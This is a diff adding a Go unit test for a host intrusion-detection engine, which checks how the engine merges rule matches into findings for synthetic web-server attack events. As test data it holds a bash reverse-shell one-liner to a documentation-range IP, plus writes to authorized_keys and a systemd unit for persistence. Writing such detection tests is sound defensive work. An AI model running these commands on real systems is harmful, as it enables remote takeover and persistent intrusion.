@@ -1,0 +1,53 @@
+package detect
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+// TestOneFindingPerAct: several rules on one event are one finding that
+// names them all; distinct targets of one process are distinct findings.
+func TestOneFindingPerAct(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newSynth()
+	s.exec(200, 1, 33, "www-data", "/", "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
+	fs := e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"), s.tree)
+	if len(fs) != 1 {
+		t.Fatalf("one exec: %d findings %v, want 1", len(fs), ids(fs))
+	}
+	f := fs[0]
+	if len(f.RuleIDs) < 2 || !slices.Contains(f.RuleIDs, "web-server-reverse-shell") || !slices.Contains(f.RuleIDs, "web-server-exploitation") {
+		t.Errorf("rule ids %v: want every rule that matched", f.RuleIDs)
+	}
+	if f.RuleIDs[0] != f.RuleID {
+		t.Errorf("rule ids %v: the primary %s first", f.RuleIDs, f.RuleID)
+	}
+	if f.Severity != SeverityCritical { // web-server-reverse-shell's
+		t.Errorf("severity %v: want the strongest of the matches", f.Severity)
+	}
+
+	// one process, two persistence mechanisms: two acts
+	s.exec(210, 200, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "/var/www/html/x.py")
+	a := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/var/www/.ssh/authorized_keys", true), s.tree)
+	b := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/etc/systemd/system/x.service", true), s.tree)
+	if has(a, "web-persistence-file-write") == nil || has(b, "web-persistence-file-write") == nil {
+		t.Errorf("authorized_keys then a unit: %v then %v, want a finding for each", ids(a), ids(b))
+	}
+	// the same file again is the same act
+	if c := e.Observe(s.file(parser.KindFileWrite, 210, 200, 33, "/usr/bin/python3.11", "/etc/systemd/system/x.service", true), s.tree); len(c) != 0 {
+		t.Errorf("second write of the unit: %v, want none", ids(c))
+	}
+	// two peers of one process are two acts, two ports of one peer one
+	s.exec(220, 200, 33, "www-data", "/var/www", "/usr/bin/python3.11", "python3", "/var/www/html/y.py")
+	p1 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "203.0.113.9", 443), s.tree)
+	p2 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "198.51.100.4", 443), s.tree)
+	p3 := e.Observe(s.connect(220, 200, 33, "/usr/bin/python3.11", "198.51.100.4", 8443), s.tree)
+	if len(p1) != 1 || len(p2) != 1 || len(p3) != 0 {
+		t.Errorf("connects to two peers then a second port: %v %v %v, want 1 1 0 findings", ids(p1), ids(p2), ids(p3))
+	}
+}
